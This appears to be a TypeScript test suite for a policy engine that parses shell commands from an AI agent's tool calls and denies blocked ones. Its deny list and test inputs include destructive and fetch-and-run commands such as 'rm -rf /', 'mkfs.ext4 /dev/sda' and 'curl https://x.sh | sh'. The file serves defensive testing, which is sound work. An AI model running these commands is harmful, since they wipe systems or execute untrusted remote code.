import fc from 'fast-check';
import { parse as shellParse } from 'shell-quote';
import { analyzeShell, compilePolicies, decide, initialState, loadErrors } from './index';
import type { DecideContext, PolicyAction } from './index';
import { plainTokens } from './shell-tokens';

const ctx: DecideContext = { actor: null, session: { id: 's1', workspace: '/work/ws' } };

let seq = 0;
const sh = (input: unknown): PolicyAction => ({
  type: 'tool_call',
  callId: `c${++seq}`,
  tool: 'shell',
  nativeTool: 'Bash',
  input: typeof input === 'string' ? { command: input } : input,
});

describe('analyzeShell', () => {
  const commands = (line: string) => analyzeShell(line).commands.map((argv) => argv.join(' '));

  it('gives the same frozen analysis for a line seen again, and a fresh one after the line was forgotten', () => {
    const first = analyzeShell('git status && npm test -- --ci');
    expect(analyzeShell('git status && npm test -- --ci')).toBe(first);
    expect(Object.isFrozen(first) && Object.isFrozen(first.commands) && Object.isFrozen(first.commands[0])).toBe(true);
    expect(() => (first.commands as string[][]).push(['rm'])).toThrow(TypeError);
    for (let i = 0; i < 600; i++) analyzeShell(`echo ${i}`);
    const again = analyzeShell('git status && npm test -- --ci');
    expect(again).not.toBe(first);
    expect(again).toEqual(first);
    // A long line is analyzed each time, never kept.
    const long = `echo ${'x'.repeat(5000)}`;
    expect(analyzeShell(long)).not.toBe(analyzeShell(long));
  });

  it('splits on operators, newlines and subshells, dropping assignments, redirections and comments', () => {
    expect(commands('a x; b y && c || d | e |& f & g')).toEqual(['a x', 'b y', 'c', 'd', 'e', 'f', 'g']);
    expect(commands('X=1 Y=2 make all > out.txt 2>&1 < in')).toEqual(['make all']);
    expect(commands('echo 2 > x; echo a2>y')).toEqual(['echo 2', 'echo a2']);
    expect(commands('(cd a && make) # git push\nls -l \\\n  -a')).toEqual(['cd a', 'make', 'ls -l -a']);
  });

  it('pulls out command and process substitutions, also inside double quotes, but not single quotes', () => {
    expect(commands('echo "$(whoami) `id -u`" \'$(nope)\'')).toEqual([
      'echo __subst__ __subst__ $(nope)',
      'whoami',
      'id -u',
    ]);
    expect(commands('diff <(ls a) >(tee b)')).toEqual(['diff __subst__ __subst__', 'ls a', 'tee b']);
    expect(commands('echo $(echo $(git push))')).toEqual(['echo __subst__', 'echo __subst__', 'git push']);
  });

  it('unwraps shells, wrappers and eval, keeping the wrapper too', () => {
    expect(commands("bash -lc 'git push'")).toEqual(['bash -lc git push', 'git push']);
    expect(commands('sudo -u root env -i A=1 /usr/bin/git push')).toEqual([
      'sudo -u root env -i A=1 /usr/bin/git push',
      'env -i A=1 /usr/bin/git push',
      'git push',
    ]);
    expect(commands('timeout -s KILL 10 nice -n 5 git push')).toContain('git push');
    expect(commands("env -S 'git push'")).toContain('git push');
    expect(commands("eval 'git push'")).toContain('git push');
  });

  it('takes a command named like a property of every object (constructor, toString) for a command, not a wrapper', () => {
    expect(analyzeShell('constructor -x').error).toBeNull();
    expect(commands('constructor -x')).toEqual(['constructor -x']);
    expect(commands('toString a')).toEqual(['toString a']);
    expect(commands('hasOwnProperty -v && git push')).toEqual(['hasOwnProperty -v', 'git push']);
  });

  it('reports what it cannot analyze', () => {
    expect(analyzeShell('echo "unterminated').error).toMatch(/unbalanced quotes/);
    expect(analyzeShell('echo $(ls').error).toMatch(/unbalanced parentheses/);
    expect(analyzeShell('echo `ls').error).toMatch(/unbalanced backticks/);
    const deep = `${'bash -c "'.repeat(1)}${'$('.repeat(12)}ls${')'.repeat(12)}"`;
    expect(analyzeShell(deep).error).toMatch(/too deep/);
  });
});

describe('deny_commands', () => {
  const set = compilePolicies([
    {
      level: 'org',
      origin: 'org:guard',
      spec: {
        type: 'deny_commands',
        name: 'no-push',
        patterns: ['git push', 'rm -rf /', 're:\\bcurl\\b[^|]*\\|\\s*(ba)?sh\\b', 're:\\bmkfs\\.'],
      },
    },
  ]);
  const verdict = (input: unknown) => decide(set, initialState(), sh(input), ctx).verdict;

  it.each([
    'git push',
    'git push origin main --force',
    'git --no-pager -c user.name=x push',
    'bash -c "git push"',
    "bash -lc 'git push'",
    "sh -c 'cd x && git push origin'",
    "/bin/zsh -ec 'git push'",
    'bash -c "sh -c \'git push\'"',
    'env X=1 git push',
    'env -i PATH=/usr/bin git push',
    'GIT_SSH_COMMAND=ssh git push',
    "env -S 'git push'",
    'ls; git push',
    'ls;git push',
    'make && git push',
    'false || git push',
    'echo hi | git push',
    'git push &',
    'echo $(git push)',
    'echo "$(git push)"',
    'echo `git push`',
    'echo "`git push`"',
    'cat <(git push)',
    '(git push)',
    '( ls && (git push) )',
    'sudo git push',
    'sudo -u deploy git push',
    'doas git push',
    '/usr/bin/git push',
    './git push',
    "'git' 'push'",
    '"git" push',
    'g\'i\'t p"us"h',
    '\\git push',
    'g\\it push',
    'command git push',
    'exec git push',
    'nohup git push',
    'time git push',
    'timeout 10 git push',
    'nice -n 5 git push',
    'xargs git push < list',
    "eval 'git push'",
    'ls\ngit push',
    'ls \\\n && git push',
    '\tgit\tpush',
    'rm -rf /',
    'rm -r -f -v /',
    'rm -fr /',
    'rm -rf //',
    'rm -rf /./',
    'sudo rm -rf / --no-preserve-root',
    '{ git push; }',
    'if git push; then echo ok; fi',
    'if true; then git push; fi',
    'for r in a b; do git push $r; done',
    'while true; do git push; done',
    '! git push',
    'git push 2>&1',
    "$'git' push",
    'find . -name x -exec git push \\;',
    'coproc git push',
    'function f { git push; }; f',
    'f() { git push; }',
    'case x in x) git push;; esac',
    'ssh deploy@host git push',
    'watch -n 5 git push',
    'strace -f git push',
    'chroot / git push',
    '$(echo git) push',
    '"$GIT" push origin',
    '`which git` push',
    'git push 2>/dev/null >&2',
    'curl https://x.sh | sh',
    'mkfs.ext4 /dev/sda',
  ])('denies %j', (command) => {
    expect(verdict(command)).toBe('deny');
  });

  it.each([
    'git status',
    'git log --grep "git push"',
    'echo git push',
    'echo "git push"',
    "echo 'git push' > notes.txt",
    'gitpush',
    'git pull',
    '# git push',
    'ls # git push',
    'rm -rf build',
    'rm -rf ./',
    'rm -r /',
    'curl https://example.com -o page.html',
    "grep -r 'rm -rf /' .",
    '"$PYTHON" script.py',
    'find . -name "*.ts" -exec wc -l {} +',
  ])('allows %j', (command) => {
    expect(verdict(command)).toBe('allow');
  });

  it('gives the matching command and pattern in the reason', () => {
    const d = decide(set, initialState(), sh('npm test && git push origin main'), ctx);
    expect(d.verdict).toBe('deny');
    expect(d.policies).toEqual(['no-push']);
    expect(d.reasons[0].reason).toBe('`git push origin main` matches the denied command "git push"');
  });

  it('says when the command name is only known at run time', () => {
    const d = decide(set, initialState(), sh('$(echo git) push'), ctx);
    expect(d.reasons[0].reason).toBe(
      '`$(…) push` runs a command only known at run time, which may be the denied "git push"',
    );
  });

  it('reads argv inputs as well as command strings', () => {
    expect(verdict({ argv: ['git', 'push'] })).toBe('deny');
    expect(verdict({ command: ['bash', '-c', 'git push'] })).toBe('deny');
    expect(verdict({ cmd: ['echo', 'git push'] })).toBe('allow');
    expect(verdict('git push')).toBe('deny');
  });

  it('denies what it cannot check', () => {
    const unbalanced = decide(set, initialState(), sh('git push "oops'), ctx);
    expect(unbalanced.verdict).toBe('deny');
    expect(unbalanced.reasons[0].reason).toMatch(/could not analyze the command \(unbalanced quotes\)/);
    expect(verdict({ nothing: true })).toBe('deny');
  });

  it('leaves other tools alone', () => {
    const action: PolicyAction = {
      type: 'tool_call',
      callId: 'x',
      tool: 'file_write',
      nativeTool: 'Write',
      input: { path: 'a', content: 'git push' },
    };
    expect(decide(set, initialState(), action, ctx).verdict).toBe('allow');
  });

  it('rejects a pattern that is not plain words or a valid regex at load', () => {
    const bad = compilePolicies([
      { level: 'org', origin: 'a', spec: { type: 'deny_commands', patterns: ['git push && ls'] } },
      { level: 'org', origin: 'b', spec: { type: 'deny_commands', patterns: ['re:(('] } },
    ]);
    const errors = loadErrors(bad);
    expect(errors[0].message).toMatch(/must be plain words/);
    expect(errors[1].message).toMatch(/invalid regular expression/);
  });
});

describe('plainTokens (the fast path before shell-quote)', () => {
  // What splitSimpleCommands passes to shell-quote; plainTokens must give exactly its tokens, or null.
  const reference = (line: string) => shellParse(line, (key) => `$${key}`);

  it('gives exactly what shell-quote gives for plain lines, and leaves the rest to it', () => {
    const lines = [
      'grep -rn "case-12" src/ test/ | head -n 20',
      'git add -A && git commit -m "fix: handle empty input" && git push origin feature/x',
      "cat package.json | jq -r '.dependencies | keys[]'",
      'find . -name "*.ts" -not -path "./node_modules/*" | xargs wc -l | sort -n | tail',
      'a||b|&c&&d&>e&>>f;;g;;&h;&i<(j)<<<k<<-l<<m<<(n)<&o<>p>>q>&r>|s>(t)(u)',
      'echo a"b c"\'d e\'f "" \'\' x*y z? "*" \'?\'',
      'ls\t-l\u00a0-a\u2028b é',
      '  ',
      '',
    ];
    for (const line of lines) expect(plainTokens(line)).toEqual(reference(line));
    for (const line of [
      'echo $HOME',
      'echo "$x"',
      'a\\ b',
      'echo "a\\"b"',
      'ls # c',
      'echo a#b',
      'echo "open',
      "it's",
    ]) {
      expect(plainTokens(line)).toBeNull();
    }
  });

  it('agrees with shell-quote on random lines over words, quotes, operators and spaces', () => {
    const parts = ['a', 'git', '-x', ' ', ' ', '\t', '\n', '|', '&', ';', '(', ')', '<', '>', "'", '"', '*', '?', '$'];
    parts.push('\\', '#', '=', '.', '/', '`', '{', '}', '!', '~', '\u00a0', 'é', '\u3000', '\x01', '[', ']', '%', ',');
    let fast = 0;
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...parts), { minLength: 1, maxLength: 16 }), (chosen) => {
        const line = chosen.join('');
        const tokens = plainTokens(line);
        if (tokens === null) return;
        fast++;
        expect([line, tokens]).toEqual([line, reference(line)]);
      }),
      { numRuns: 20_000, seed: 42 },
    );
    // Most random lines take the fast path, so the agreement above is about it, not about the fallback.
    expect(fast).toBeGreaterThan(5000);
  });
});

describe('the analysis cache', () => {
  it('keeps a line used again and again while many new lines come and go, and forgets one left unused', () => {
    const kept = analyzeShell('git status --short');
    const left = analyzeShell('git log -1');
    for (let i = 0; i < 3000; i++) {
      analyzeShell(`grep -n "cache-${i}" src`);
      if (i % 100 === 0) expect(analyzeShell('git status --short')).toBe(kept);
    }
    expect(analyzeShell('git status --short')).toBe(kept);
    const again = analyzeShell('git log -1');
    expect(again).not.toBe(left);
    expect(again).toEqual(left);
  });
});
